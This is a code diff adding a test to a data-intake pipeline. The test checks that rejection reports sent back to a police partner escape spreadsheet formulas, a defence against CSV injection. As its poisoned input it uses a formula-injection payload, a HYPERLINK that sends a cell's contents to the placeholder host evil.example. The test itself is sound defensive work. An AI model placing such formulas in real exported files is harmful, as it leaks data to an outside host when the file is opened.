@@ -223,3 +223,32 @@ def test_blank_lines_mid_file_are_skipped_and_rows_keep_their_line_numbers(setti
     # data rows 1-9 are lines 2-10; rows 10 and 11 are the blank lines; the next data row is row 12 = line 13
     assert numbers[:10] == [1, 2, 3, 4, 5, 6, 7, 8, 9, 12]
     assert "2 empty row(s)" in " ".join(report["warnings"])
+
+
+def test_reports_back_to_partners_never_carry_a_live_spreadsheet_formula(sftp, police_contract, tmp_path):
+    """A hostile cell comes back in the rejection report's CSV escaped (OWASP CSV injection)."""
+    import csv as csv_module
+    import io
+
+    from conftest import POLICE_SAMPLE, write_variant
+
+    from connectors.sftp import open_account
+    from totalplace.reports import spreadsheet_safe
+
+    def poison(rows):
+        rows[1][9] = '=HYPERLINK("http://evil.example/?"&A1,"click")'
+        rows[2][9] = "@SUM(1+1)"
+
+    bad = write_variant(POLICE_SAMPLE, tmp_path / "poisoned.csv", poison)
+    with open_account(sftp, "police") as police:
+        police.upload(bad, "street_crime")
+    [file_id] = intake.fetch(sftp, police_contract)
+    intake.load(sftp, police_contract, file_id)
+    intake.validate(sftp, police_contract, file_id)
+    assert intake.publish(sftp, police_contract, file_id).status == "quarantined"
+    with open_account(sftp, "police") as police:
+        text = police.read_bytes("outbox/street_crime/poisoned.csv.quarantined.csv").decode("utf-8-sig")
+    values = [row[5] for row in csv_module.reader(io.StringIO(text))][1:]
+    assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in values and "'@SUM(1+1)" in values
+    assert not any(v.startswith(("=", "+", "-", "@")) for v in values)
+    assert spreadsheet_safe("-2+3") == "'-2+3" and spreadsheet_safe("Other theft") == "Other theft"
